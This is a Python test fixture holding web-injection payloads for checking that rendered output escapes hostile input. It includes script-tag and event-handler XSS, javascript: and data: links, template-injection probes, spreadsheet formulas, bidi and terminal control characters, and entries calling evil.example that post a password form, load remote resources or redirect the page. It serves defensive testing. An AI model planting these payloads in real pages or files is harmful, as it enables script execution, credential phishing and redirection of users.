"""Words that would run, fetch, steer or turn something, were they shown as anything but text."""

from __future__ import annotations

from collections.abc import Mapping

MARKED = "window.hacked = (window.hacked || 0) + 1"
"""What every script among the payloads does, so that a test can see it."""

PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{MARKED}</script>",
    "end of a script": f"</script><script>{MARKED}</script>",
    "comment": f"<!--<script>{MARKED}</script>-->",
    "picture": f"<img src=x onerror='{MARKED}'>",
    "picture elsewhere": '<img src="http://evil.example/p.png"><link rel=stylesheet href=//evil.example>',
    "vector picture": f"<svg onload='{MARKED}'><animate onbegin='{MARKED}' attributeName=x></svg>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror='{MARKED}'>",
    "data address": f'<a href="data:text/html,<script>{MARKED}</script>">下载</a>',
    "script address": f'<a href="javascript:{MARKED}" autofocus onfocus="{MARKED}">原文</a>',
    "frame": f'<iframe srcdoc="<script>parent.{MARKED}</script>"></iframe>',
    "form": '<form action="http://evil.example/"><input name=password><button>登录</button></form>',
    "base": '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "style": "<style>*{display:none}</style>",
    "attribute": f"\" autofocus onfocus=\"{MARKED}\" x='",
    "template": "{{constructor.constructor('window.hacked = 1')()}}${window.hacked = 1}#{7*7}<%= 7*7 %>",
    "Markdown": f"[原文](javascript:{MARKED}) ![图](http://evil.example/m.png) `<b>`",
    "references": f"&lt;script&gt;{MARKED}&lt;/script&gt;&#60;b&#62;",
    "formula of a table": "=HYPERLINK(\"http://evil.example\",\"登录\")",
    "turned": "\u202e有21家\u202c与\u2066有8家\u2069及\u200f甲\u061c乙",
    "turned without end": "甲\u202e\u2067乙\u2068丙",
    "terminal": "\x1b]0;坏\x07\x1b[2J\x1b[31m红\x9b2J\x08\x7f",
}  # fmt: skip
"""By what they try."""

TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Characters of direction."""


def file_name(payload: str, ending: str = ".txt") -> str:
    """Return the payload as far as it can be the name of a file."""
    stem = payload.replace("/", "∕").encode()[:150].decode("utf-8", "ignore")
    return f"{stem}{ending}"


def told(payload: str) -> str:
    """Return a sentence of a document that holds the payload."""
    return f"党建园区的{payload}项目有21家企业。"
